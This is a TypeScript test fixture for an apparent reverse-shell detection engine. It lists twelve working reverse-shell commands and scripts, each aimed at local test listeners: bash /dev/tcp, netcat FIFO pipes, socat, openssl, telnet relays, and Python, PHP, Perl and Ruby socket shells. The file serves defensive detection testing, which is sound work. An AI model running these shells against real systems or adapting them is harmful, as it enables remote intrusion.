/**
 * The seed's reverse-shell examples as this machine can run them, each against listeners on
 * 127.0.0.1 that the test starts. Shared by the engine test on real /proc snapshots and the
 * end-to-end test through the agent (alert → HandleSecurityEvents kill_process).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

export function which(bin: string): string | null {
  const r = spawnSync('sh', ['-c', `command -v ${bin}`], { encoding: 'utf8' });
  return r.status === 0 ? r.stdout.trim() : null;
}

export const PYTHON = existsSync('/usr/bin/python3') ? '/usr/bin/python3' : which('python3');

export interface ExampleContext {
  /** Port of the listener that sends commands (plain TCP, or TLS for `tls` examples). */
  port: number;
  /** Port of a second plain listener (where telnet relays send the shell's output). */
  port2: number;
  /** A temp directory of this example (FIFOs, scripts). */
  dir: string;
}

export interface RevshellExample {
  name: string;
  /** The class the engine must report. */
  class: 1 | 2 | 3;
  /** Binaries that must exist for it to run here. */
  needs: string[];
  /** The command listener speaks TLS (openssl s_client). */
  tls?: boolean;
  /** The shell's answers arrive on the second listener. */
  answersOn2?: boolean;
  /**
   * A command loop runs each received command in a child shell: the shell only exists while a
   * command runs, so the test sends this long command (after proving the loop answers) to see it.
   */
  keepShell?: string;
  argv(ctx: ExampleContext): string[];
}

const py = (code: string): string[] => [PYTHON ?? 'python3', '-c', code];
const sh = (script: string): string[] => ['sh', '-c', script];
/** Interactive shells without rc files: a slow ~/.bashrc on a loaded machine delays nothing here. */
const BASH_I = 'bash --norc --noprofile -i';

export const REVSHELL_EXAMPLES: RevshellExample[] = [
  {
    name: 'bash -i >& /dev/tcp',
    class: 1,
    needs: ['bash'],
    argv: ({ port }) => ['bash', '-c', `${BASH_I} >& /dev/tcp/127.0.0.1/${port} 0>&1`],
  },
  {
    name: 'python socket + dup2 + sh -i',
    class: 1,
    needs: ['python3'],
    argv: ({ port }) =>
      py(`import socket,os,subprocess;s=socket.socket();s.connect(("127.0.0.1",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`),
  },
  {
    name: 'php -r fsockopen + exec sh <&3',
    class: 1,
    needs: ['php'],
    argv: ({ port }) => ['php', '-r', `$sock=fsockopen("127.0.0.1",${port});exec("/bin/sh -i <&3 >&3 2>&3");`],
  },
  {
    name: 'mkfifo + nc',
    class: 2,
    needs: ['nc', 'mkfifo'],
    argv: ({ port, dir }) => sh(`mkfifo ${dir}/f; cat ${dir}/f | /bin/sh -i 2>&1 | nc 127.0.0.1 ${port} > ${dir}/f`),
  },
  {
    name: 'mknod backpipe + nc',
    class: 2,
    needs: ['nc', 'mknod'],
    argv: ({ port, dir }) => sh(`mknod ${dir}/backpipe p; /bin/sh 0<${dir}/backpipe | nc 127.0.0.1 ${port} 1>${dir}/backpipe`),
  },
  {
    name: 'mkfifo + openssl s_client',
    class: 2,
    needs: ['openssl', 'mkfifo'],
    tls: true,
    argv: ({ port, dir }) => sh(`mkfifo ${dir}/s; /bin/sh -i < ${dir}/s 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${port} > ${dir}/s 2>/dev/null`),
  },
  {
    name: 'socat exec:bash,pty',
    class: 2,
    needs: ['socat'],
    argv: ({ port }) => ['socat', `exec:'${BASH_I}',pty,stderr,setsid,sigint,sane`, `tcp:127.0.0.1:${port}`],
  },
  {
    name: 'telnet | sh | telnet',
    class: 2,
    needs: ['telnet'],
    answersOn2: true,
    // `sleep |` keeps the first telnet's stdin open, as a terminal would.
    argv: ({ port, port2 }) => sh(`sleep 600 | telnet 127.0.0.1 ${port} 2>/dev/null | /bin/sh 2>&1 | telnet 127.0.0.1 ${port2} >/dev/null 2>&1`),
  },
  {
    name: 'python pty.spawn',
    class: 2,
    needs: ['python3'],
    argv: ({ port }) => py(`import os,pty,socket;s=socket.socket();s.connect(("127.0.0.1",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`),
  },
  {
    name: 'perl IO::Socket loop with system()',
    class: 3,
    needs: ['perl'],
    argv: ({ port }) => ['perl', '-MIO', '-e', `$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:${port}");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`],
  },
  {
    name: 'python script: command loop with subprocess.run(shell=True)',
    class: 3,
    needs: ['python3'],
    keepShell: 'sleep 60; echo done',
    argv: ({ port, dir }) => {
      // Nothing in argv gives it away: the topology (outbound socket, shell child) and the script do.
      const script = join(dir, 'worker.py');
      writeFileSync(
        script,
        [
          'import socket, subprocess, sys',
          's = socket.create_connection(("127.0.0.1", int(sys.argv[1])))',
          'for line in s.makefile("rb"):',
          '    r = subprocess.run(line.decode(), shell=True, capture_output=True)',
          '    s.sendall(r.stdout + r.stderr)',
          '',
        ].join('\n'),
      );
      return [PYTHON ?? 'python3', script, String(port)];
    },
  },
  {
    name: 'ruby script: command loop with backticks',
    class: 3,
    needs: ['ruby'],
    keepShell: 'sleep 60; echo done',
    argv: ({ port, dir }) => {
      const script = join(dir, 'worker.rb');
      writeFileSync(script, ["require 'socket'", 's = TCPSocket.new("127.0.0.1", ARGV[0].to_i)', 'while (line = s.gets)', '  s.print(`#{line}`)', 'end', ''].join('\n'));
      return ['ruby', script, String(port)];
    },
  },
];

/** The examples whose binaries exist here, and the names of those skipped. */
export function runnableExamples(): { runnable: RevshellExample[]; skipped: string[] } {
  const runnable: RevshellExample[] = [];
  const skipped: string[] = [];
  for (const e of REVSHELL_EXAMPLES) {
    if (e.needs.every((b) => which(b) !== null)) runnable.push(e);
    else skipped.push(e.name);
  }
  return { runnable, skipped };
}
